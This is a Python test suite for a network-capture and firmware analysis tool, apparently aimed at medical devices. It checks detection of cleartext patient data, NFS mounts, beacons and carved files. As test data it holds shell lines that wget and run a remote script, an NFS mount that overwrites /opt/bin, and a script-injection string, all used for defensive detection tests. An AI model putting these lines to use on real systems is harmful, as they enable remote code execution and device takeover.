"""Why: what the wire shows must reach a person through the command line as the witness judged it: loud where patient data went
in clear, quiet on ordinary traffic, masked unless asked, read to its end whatever is wrong with the file; and what was read in
a firmware must be told seen, tried in vain, or not exercised."""
import gzip
import hashlib
import json
import os
import pathlib
import subprocess
import tempfile
import unittest

import wire
from schema_test import closed, jsonschema

BIOPSY = os.environ["BIOPSY"]
ROOT = pathlib.Path(__file__).resolve().parent.parent
LAB = pathlib.Path(os.environ.get("BIOPSY_LAB", ROOT / "build" / "lab"))
CAPTURES = pathlib.Path(os.environ.get("BIOPSY_SHARED", ROOT.parent / "shared")) / "captures"
DEVICE, PEER, OTHER = "10.50.0.20", "198.51.100.7", "203.0.113.9"

# What the captures' own README says of each: the rule that must be among the findings, and the loudest that any may be.
JUDGED = {
    "hl7_adt": ("patient-data-clear", "medium"), "hl7_adt_udi_obx": ("patient-data-clear", "medium"),
    "hl7_orm": ("patient-data-clear", "medium"), "hl7_mllp_2575": ("patient-data-clear", "high"),
    "cms_binary_515": ("patient-data-clear", "high"),
    "mount_unmount_udp": ("remote-share", "low"), "nfs2_udp": ("remote-share", "medium"), "nfs3_session_tcp": ("remote-share", "low"),
    "nfs3_readdirplus": ("remote-share", "low"), "nfs4_tcp": ("remote-share", "low"), "portmap_sadmind_udp": ("remote-share", "medium"),
    "mount_bad_status": ("remote-share", "low"),
    "arm_boot_unanswered_portmap_515": ("attempt-unanswered", "low"), "portmap_many_unanswered": ("attempt-unanswered", "info"),
    "dicom_assoc_find": ("medical-protocol-no-identity", "low"), "dicom_assoc_find_bogus": ("medical-protocol-no-identity", "low"),
    "ftp_transfer": ("credential-or-shell-clear", "medium"), "mqtt_userpass": ("credential-or-shell-clear", "low"),
    "rsh": ("credential-or-shell-clear", "low"), "shell_in_tcp": ("credential-or-shell-clear", "low"),
    "tftp": ("files-clear", "low"), "tftp_rrq_small": ("files-clear", "low"),
    "iot_cloud_logsink_nest": ("periodic-peer", "info"), "iot_udp_beacon_tuya": ("periodic-peer", "info"),
    "dns_exfiltration": ("oddity", "low"),
    # Background, and what is damaged on purpose: nothing above a note about a public peer.
    "hl7_mllps_tls_2576": (None, "info"), "ipp_print": (None, "info"), "lpd_benign_print_job": (None, "info"), "mqtt": (None, "info"),
    "syslog_mixed": (None, "info"), "wsdiscovery_3702": (None, "info"), "dhcp_mud_url": (None, "info"),
    "dhcpv6_mud_url": (None, "info"), "nfs_attr_oobr": (None, "info"),
}
SEVERITIES = ["info", "low", "medium", "high", "critical"]


def run(*words, **more):
    return subprocess.run([BIOPSY, *map(str, words)], capture_output=True, timeout=240, **more)


class Folder(unittest.TestCase):
    def setUp(self):
        self.folder = tempfile.TemporaryDirectory()
        self.place = pathlib.Path(self.folder.name)

    def tearDown(self):
        self.folder.cleanup()

    def file(self, name, content):
        (self.place / name).write_bytes(content)
        return self.place / name

    def capture(self, packets, name="seen.pcap", **more):
        return self.file(name, wire.pcap(packets, **more))

    def judged(self, *words, status=(0, 1)):
        done = run(*words, "--format", "json")
        self.assertIn(done.returncode, status, done.stderr)
        return json.loads(done.stdout)


def rules(result):
    return [finding["rule"] for finding in result["findings"]]


class Judged(Folder):
    def test_shared_captures_as_their_readme_says(self):
        if not CAPTURES.is_dir():
            self.skipTest("needs shared captures: all of them")
        seen = set()
        for path in sorted(CAPTURES.glob("*.pcap*")):
            name = path.name.split(".")[0]
            seen.add(name)
            with self.subTest(name):
                rule, loudest = JUDGED[name]
                result = self.judged("capture", path)
                loud = max((SEVERITIES.index(f["severity"]) for f in result["findings"]), default=0)
                self.assertLessEqual(loud, SEVERITIES.index(loudest))
                told = {r for r in rules(result) if r != "wire-public-peer"}
                if rule is None:
                    self.assertEqual(told, set())
                else:
                    self.assertIn("wire-" + rule, told)
                    proofs = [f for f in result["findings"] if f["rule"] == "wire-" + rule]
                    self.assertTrue(all(any(part["site"]["frames"] for part in f["evidence"]["parts"] if "site" in part) for f in proofs))
                for effect in result["effects"]:
                    self.assertEqual(effect["witness"], "observed")
                self.assertNotIn("capture-cut", [d["name"] for d in result["doubts"]])
        self.assertEqual(seen, set(JUDGED))

    def hl7(self, segment=1400):
        said = wire.mllp(b"MSH|^~\\&|MON|BED1|CS|WARD|20260101120000||ADT^A01|1|P|2.3", b"PID|1||MRN-0042^^^HOSP||TESTPATIENT^ALICE||19700101|F")
        return wire.Talk(DEVICE, PEER, 6000).open().say(True, said, segment).close().packets

    def test_patient_data_names_the_field_and_hides_the_value(self):
        capture = self.capture(self.hl7())
        for words in (["--format", "text"], ["--format", "json"], ["--format", "html"]):
            done = run("capture", capture, *words)
            self.assertEqual(done.returncode, 1)
            self.assertIn(b"PID-5", done.stdout)
            self.assertNotIn(b"ALICE", done.stdout)
            self.assertNotIn(b"MRN-0042", done.stdout)
            self.assertIn(b"ALICE", run("capture", capture, "--show-secrets", *words).stdout)

    def test_segments_of_three_bytes_swapped_and_twice_say_the_same(self):
        def told(packets):
            result = self.judged("capture", self.capture(packets))
            return sorted((f["id"], f["severity"], f["endpoints"][0]["protocol"]) for f in result["findings"])
        whole, three = told(self.hl7()), self.hl7(3)
        middle = three[3:-2]
        swapped = [packet for i in range(0, len(middle), 2) for packet in middle[i:i + 2][::-1]]
        self.assertIn("high", [severity for _, severity, _ in whole])
        for packets in (three, three[:3] + swapped + three[-2:], three[:3] + middle * 2 + three[-2:]):
            self.assertEqual(told(packets), whole)

    def test_a_gap_costs_what_it_held_and_no_more(self):
        first = wire.mllp(b"MSH|^~\\&|MON|BED1|CS|WARD|20260101120000||ADT^A01|1|P|2.3", b"PID|1||LOST-1^^^HOSP||LOST^PATIENT||19700101|F")
        second = wire.mllp(b"MSH|^~\\&|MON|BED1|CS|WARD|20260101120001||ADT^A01|2|P|2.3", b"PID|1||KEPT-2^^^HOSP||KEPT^PATIENT||19700101|F")
        talk = wire.Talk(DEVICE, PEER, 6000).open().say(True, first + second, 40).close().packets
        packets = [packet for i, packet in enumerate(talk) if i != 4]
        done = run("capture", self.capture(packets), "--show-secrets")
        self.assertIn(b"KEPT^PATIENT", done.stdout)

    def test_a_beacon_and_a_contact_soon_after_the_device_appeared(self):
        dns = [(0, wire.udp("10.50.0.9", 5000, "10.50.0.1", 123, bytes(48)))]
        beacon = []
        for i in range(12):
            for k, packet in enumerate(wire.Talk(DEVICE, PEER, 7000, 40000 + i).open().say(True, b"\x01\x02ping\x00").say(False, b"ok").close().packets):
                beacon.append((30 + 35 * i + k / 100, packet))
        result = self.judged("capture", self.capture(dns + beacon))
        self.assertIn("wire-periodic-peer", rules(result))
        contact = next(f for f in result["findings"] if f["rule"] == "wire-public-peer")
        self.assertIn("without looking a name up", contact["says"])
        self.assertIn("after it appeared", contact["says"])

    def test_code_in_the_clear_is_carved_and_hashed(self):
        script = b"#!/bin/sh\necho hello\n"
        talk = wire.Talk(DEVICE, PEER, 80).open().say(True, b"GET /u.sh HTTP/1.0\r\nHost: a.example\r\n\r\n")
        talk.say(False, b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(script) + script).close()
        result = self.judged("capture", self.capture(talk.packets))
        carved = [f for f in result["files"] if f["kind"] == "carved"]
        self.assertEqual([f["sha256"] for f in carved], [hashlib.sha256(script).hexdigest()])
        self.assertIn("wire-files-clear", rules(result))


    def test_a_canary_is_found_whatever_the_framing_and_however_it_was_cut(self):
        talk = wire.Talk(DEVICE, PEER, 9999).open().say(True, b"\x00\x17\xfe" * 9 + b"CANARY-PATIENT" + b"\xff" * 9, 4).close()
        capture = self.capture(talk.packets)
        self.assertEqual(rules(self.judged("capture", capture)), ["wire-public-peer"])
        self.assertIn("wire-patient-data-clear", rules(self.judged("capture", "--canary", "CANARY-PATIENT", capture)))
        self.assertNotIn("wire-patient-data-clear", rules(self.judged("capture", "--canary", "ANOTHER", capture)))

    def test_what_was_carried_is_scanned_when_asked(self):
        script = b"#!/bin/sh\nwget -O /tmp/run.sh http://203.0.113.9/run.sh\nsh /tmp/run.sh\n"
        talk = wire.Talk(DEVICE, PEER, 80).open().say(True, b"GET /u.sh HTTP/1.0\r\nHost: a.example\r\n\r\n")
        talk.say(False, b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(script) + script).close()
        capture = self.capture(talk.packets)
        self.assertNotIn("devices", self.judged("capture", capture))
        seen, carried = self.judged("capture", capture, "--scan-carried")["devices"]
        self.assertIn("/u.sh", carried["device"])
        self.assertIn("remote-content-executed", rules(carried))
        self.assertIn("wire-files-clear", rules(seen))


class Damaged(Folder):
    def refused(self, *words, status=3):
        done = run(*words)
        self.assertEqual(done.returncode, status, done.stderr)
        self.assertEqual(done.stderr.count(b"\n"), 1, done.stderr)
        self.assertTrue(done.stderr.startswith(b"biopsy: "), done.stderr)
        self.assertNotIn(b"Traceback", done.stderr)
        return done

    def test_missing_empty_and_wrong_files_get_one_sentence_and_3(self):
        for path in (self.place / "missing.pcap", self.file("empty", b""), self.place, self.file("text", b"no capture at all\n" * 40),
                     self.file("gz", bytes.fromhex("1f8b08000000000000ff") + b"nonsense"), self.file("short", b"\xd4\xc3\xb2")):
            with self.subTest(str(path)):
                self.refused("capture", path)
                self.assertEqual(self.refused("scan", "--capture", path, self.file("x.sh", b"#!/bin/sh\n")).stdout, b"")

    def test_usage_errors_give_2(self):
        for words in (["capture"], ["capture", "x", "--format", "nonsense"], ["capture", "x", "--fail-on", "dire"]):
            self.assertEqual(run(*words).returncode, 2)

    def test_a_capture_that_is_cut_is_read_to_its_end_with_a_doubt(self):
        whole = wire.pcap(wire.Talk(DEVICE, PEER, 515).open().say(True, wire.cms_patient()).close().packets)
        result = self.judged("capture", self.file("cut.pcap", whole[:-20]))
        self.assertIn("wire-patient-data-clear", rules(result))
        self.assertIn("capture-cut", [d["name"] for d in result["doubts"]])

    def test_a_gzip_capture_reads_as_the_plain_one(self):
        plain = wire.pcap(wire.Talk(DEVICE, PEER, 515).open().say(True, wire.cms_patient()).close().packets)
        half = len(plain) // 2
        packed = [gzip.compress(plain), gzip.compress(plain[:half]) + gzip.compress(plain[half:])]
        wanted = [f["id"] for f in self.judged("capture", self.file("a.pcap", plain))["findings"]]
        for content in packed:
            self.assertEqual([f["id"] for f in self.judged("capture", self.file("a.pcap.gz", content))["findings"]], wanted)
        self.assertIn("wire-patient-data-clear", rules(self.judged("capture", self.file("cut.gz", packed[0][:-8]))))

    def test_the_worst_of_several_counts_and_the_rest_is_told(self):
        good = self.capture(wire.Talk(DEVICE, PEER, 515).open().say(True, wire.cms_patient()).close().packets)
        done = run("capture", good, self.place / "missing.pcap")
        self.assertEqual(done.returncode, 3)
        self.assertIn(b"Patient data in clear", done.stdout)
        self.assertEqual(run("capture", good, "--fail-on", "critical").returncode, 0)
        self.assertEqual(run("capture", good, "--fail-on", "critical", "--strict").returncode, 0)

    def test_strict_tells_of_what_could_not_be_read(self):
        hello = bytes.fromhex("16030100310100002d0303") + bytes(32) + bytes.fromhex("000002002f0100000200000000")[:13]
        tls = wire.Talk(DEVICE, PEER, 443).open().say(True, hello).close().packets
        gap = wire.Talk(DEVICE, PEER, 515).open().say(True, wire.cms_patient() * 3, 100).close().packets
        del gap[5]
        for name, packets in (("tls.pcap", tls), ("gap.pcap", gap)):
            capture = self.capture(packets, name)
            self.assertEqual(run("capture", capture, "--fail-on", "critical", "--strict").returncode, 4, name)
            self.assertNotEqual(self.judged("capture", capture)["coverage"]["not_evaluated"], [])

    def test_same_input_same_bytes(self):
        good = self.capture(wire.Talk(DEVICE, PEER, 515).open().say(True, wire.cms_patient()).close().packets)
        for form in ("text", "json", "html"):
            self.assertEqual(run("capture", good, "-f", form).stdout, run("capture", good, "-f", form).stdout)

    def test_hostile_text_goes_out_escaped(self):
        name = b"\x1b[2J<script>alert(1)</script>"
        talk = wire.Talk(DEVICE, PEER, 80).open().say(True, b"GET /" + name.replace(b" ", b"") + b" HTTP/1.0\r\nHost: a.example\r\n\r\n")
        talk.say(False, b"HTTP/1.0 200 OK\r\nContent-Length: 12\r\n\r\n#!/bin/sh\nxx").close()
        capture = self.capture(talk.packets)
        self.assertNotIn(b"\x1b", run("capture", capture).stdout)
        self.assertNotIn(b"<script>alert", run("capture", capture, "-f", "html").stdout)


@unittest.skipUnless(jsonschema, "needs python3-jsonschema")
class KeepsTheSchema(Folder):
    def test_of_captures_and_of_joined_scans(self):
        schema = closed(json.loads((ROOT / "docs" / "schema.json").read_text()))
        jsonschema.Draft202012Validator.check_schema(schema)
        validator = jsonschema.Draft202012Validator(schema)
        made = self.capture(wire.nfs_mount(DEVICE, PEER, b"/pm") + wire.Talk(DEVICE, PEER, 515).open().say(True, wire.cms_patient()).close().packets)
        results = [self.judged("capture", made), self.judged("scan", "-q", "--capture", made, self.file("up.sh", SCRIPT))]
        results += [self.judged("capture", path) for path in sorted(CAPTURES.glob("*.pcap*"))]
        for result in results:
            errors = [f"{error.json_path}: {error.message[:200]}" for error in validator.iter_errors(result)]
            errors += [f"{inner.json_path}: {inner.message[:200]}" for error in validator.iter_errors(result) for inner in error.context or ()]
            self.assertEqual(errors, [], result["device"])


SCRIPT = f"#!/bin/sh\nmount -o nolock -t nfs {PEER}:/pm /mnt\ncp -rf /mnt/* /opt/bin\n".encode()


class Joined(Folder):
    def firmware(self):
        for path, content in {"etc/inittab": b"::sysinit:/etc/init.d/rcS\n", "etc/init.d/rcS": SCRIPT, "opt/bin/monitor": b"#!/bin/sh\necho on\n"}.items():
            place = self.place / "root" / path
            place.parent.mkdir(parents=True, exist_ok=True)
            place.write_bytes(content)
            place.chmod(0o755)
        return self.place / "root"

    def joined(self, packets):
        return self.judged("scan", "-q", self.firmware(), "--capture", self.capture(packets))

    def grave(self, result):
        return next(f for f in result["findings"] if f["rule"] == "remote-content-replaces-programs")

    def test_seen_is_confirmed_with_both_proofs(self):
        finding = self.grave(self.joined(wire.nfs_mount(DEVICE, PEER, b"/pm")))
        self.assertEqual((finding["wire"], finding["confidence"]), ("seen", "confirmed"))
        sites = [part["site"] for part in finding["evidence"]["parts"] if "site" in part]
        self.assertTrue(any(site["file"] == "/etc/init.d/rcS" for site in sites))
        self.assertTrue(any(site["file"] == "seen.pcap" and site["frames"] for site in sites))

    def test_attempted_and_unanswered(self):
        finding = self.grave(self.joined(wire.nfs_mount(DEVICE, PEER, b"/pm", answered=False)))
        self.assertEqual((finding["wire"], finding["confidence"]), ("attempted-unanswered", "firm"))

    def test_not_exercised_says_how_to_provoke_it(self):
        finding = self.grave(self.joined(wire.Talk(DEVICE, OTHER, 443).open().say(True, b"\x16\x03\x01").close().packets))
        self.assertEqual((finding["wire"], finding["confidence"]), ("not-exercised", "firm"))
        self.assertTrue(any("restart the device" in part["says"] for part in finding["evidence"]["parts"]), finding["evidence"])

    def test_contact_with_the_peer_alone_confirms_nothing(self):
        finding = self.grave(self.joined(wire.Talk(DEVICE, PEER, 443).open().say(True, b"\x16\x03\x01").say(False, b"\x16").close().packets))
        self.assertEqual((finding["wire"], finding["confidence"]), ("not-exercised", "firm"))

    def test_another_port_of_the_peer_confirms_nothing(self):
        script = f"#!/bin/sh\nwget -O /tmp/run.sh http://{PEER}:8080/run.sh\nsh /tmp/run.sh\n".encode()
        for port, wanted in ((22, "not-exercised"), (8080, "seen")):
            talk = wire.Talk(DEVICE, PEER, port).open().say(True, b"GET /run.sh HTTP/1.0\r\n\r\n").say(False, b"HTTP/1.0 200 OK\r\nContent-Length: 1\r\n\r\nx").close()
            result = self.judged("scan", "-q", self.file("get.sh", script), "--capture", self.capture(talk.packets))
            self.assertEqual([f["wire"] for f in result["findings"] if f["rule"] == "remote-content-executed"], [wanted])

    def test_observed_and_not_derived_is_a_gap_in_our_reading(self):
        result = self.joined(wire.nfs_mount(DEVICE, PEER, b"/pm") + wire.Talk(DEVICE, OTHER, 515).open().say(True, wire.cms_patient()).close().packets)
        gaps = [f for f in result["findings"] if f["rule"] == "wire-not-derived"]
        self.assertEqual([f["endpoints"][0]["address"] for f in gaps], [OTHER])
        self.assertIn("wire-patient-data-clear", rules(result))

    def test_a_grave_deed_with_a_known_peer_that_was_not_read_is_a_gap_too(self):
        result = self.joined(wire.nfs_mount(DEVICE, PEER, b"/pm") + wire.Talk(DEVICE, PEER, 515).open().say(True, wire.cms_patient()).close().packets)
        gaps = [f for f in result["findings"] if f["rule"] == "wire-not-derived"]
        self.assertEqual(len(gaps), 1)
        self.assertIn("patient-data", gaps[0]["title"])

    def test_the_traffic_of_other_devices_is_left_out(self):
        others = wire.Talk("10.50.0.77", OTHER, 515).open().say(True, wire.cms_patient()).close().packets
        result = self.joined(wire.nfs_mount(DEVICE, PEER, b"/pm") + others)
        self.assertNotIn("wire-patient-data-clear", rules(result))

    def test_all_renderings_say_it(self):
        capture = self.capture(wire.nfs_mount(DEVICE, PEER, b"/pm"))
        text = run("scan", "-q", self.firmware(), "--capture", capture).stdout
        page = run("scan", "-q", self.firmware(), "--capture", capture, "-f", "html").stdout
        for said in (text, page):
            self.assertIn(b"seen in the capture", said)
            self.assertIn(b"confirmed: read in the firmware and seen happening", b" ".join(said.split()))

    def test_the_labs_packages_against_their_own_traffic(self):
        package = LAB / "monitor-2.0.6.bin"
        if not package.exists():
            self.skipTest("needs the lab's packages: cmake --build build/release --target lab")
        alone = self.judged("scan", "-q", package)
        peer = next(f for f in alone["findings"] if f["rule"] == "remote-content-replaces-programs")["endpoints"][0]["address"]
        stream = wire.Talk(DEVICE, peer, 515).open().say(True, wire.cms_patient()).close().packets
        seen = self.judged("scan", "-q", package, "--capture", self.capture(wire.nfs_mount(DEVICE, peer, b"/pm") + stream))
        self.assertTrue(all(f["wire"] == "seen" for f in seen["findings"] if f["rule"] == "remote-content-replaces-programs"))
        said = [part["says"] for f in seen["findings"] if f["rule"] == "remote-content-replaces-programs" for part in f["evidence"]["parts"]]
        self.assertTrue(any("/opt/bin/update can do the same, and the traffic does not say which" in one for one in said), said)
        self.assertEqual({(f["wire"], f["confidence"]) for f in seen["findings"] if f["rule"] == "interface-raised-behind-settings"}, {("seen", "firm")})
        only_data = self.judged("scan", "-q", package, "--capture", self.capture(stream))
        by_menu = [f for f in only_data["findings"] if f["rule"] == "remote-content-replaces-programs"]
        self.assertTrue(by_menu and all(f["wire"] == "not-exercised" for f in by_menu))


class Contained(Folder):
    def test_rules_from_a_capture_name_its_peer_and_its_finding(self):
        capture = self.capture(wire.Talk(DEVICE, PEER, 515).open().say(True, wire.cms_patient()).close().packets)
        saved = self.place / "saved.json"
        run("capture", capture, "-o", saved)
        finding = next(f for f in json.loads(saved.read_text())["findings"] if f["rule"] == "wire-patient-data-clear")
        for form in ("suricata", "zeek", "nftables", "mud", "csv"):
            done = run("contain", saved, "--as", form)
            self.assertEqual(done.returncode, 0, done.stderr)
            self.assertIn(PEER.encode(), done.stdout)
            if form != "mud":
                self.assertIn(finding["id"].encode(), done.stdout)


if __name__ == "__main__":
    unittest.main()
